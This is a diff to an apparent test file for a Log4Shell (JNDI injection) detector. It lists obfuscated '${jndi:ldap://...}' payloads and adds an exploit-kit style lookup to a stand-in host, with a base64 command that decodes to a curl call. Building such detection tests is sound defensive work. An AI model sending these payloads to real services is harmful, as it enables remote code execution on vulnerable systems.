@@ -27,6 +27,9 @@ ATTACKS = [
     ("%2524%257Bjndi:ldap://198.18.0.9/w%257D", "${jndi:ldap://198.18.0.9/w}"),
     ('{"q": "\\u0024{jndi:ldap://198.18.0.9/j}"}', "${jndi:ldap://198.18.0.9/j}"),
     ("Mozilla/5.0 ${ jndi :ldap://198.18.0.9/s}", "${ jndi :ldap://198.18.0.9/s}"),
+    # an exploit kit's command in the path, base64 of a long shell line
+    ("${jndi:ldap://198.18.0.9:1389/Basic/Command/Base64/" + "Y3VybCAtcyAxOTguMTguMC45" * 40 + "}",
+     "${jndi:ldap://198.18.0.9:1389/Basic/Command/Base64/" + "Y3VybCAtcyAxOTguMTguMC45" * 40 + "}"),
 ]  # fmt: skip
 BENIGN = [
     "${project.version}",
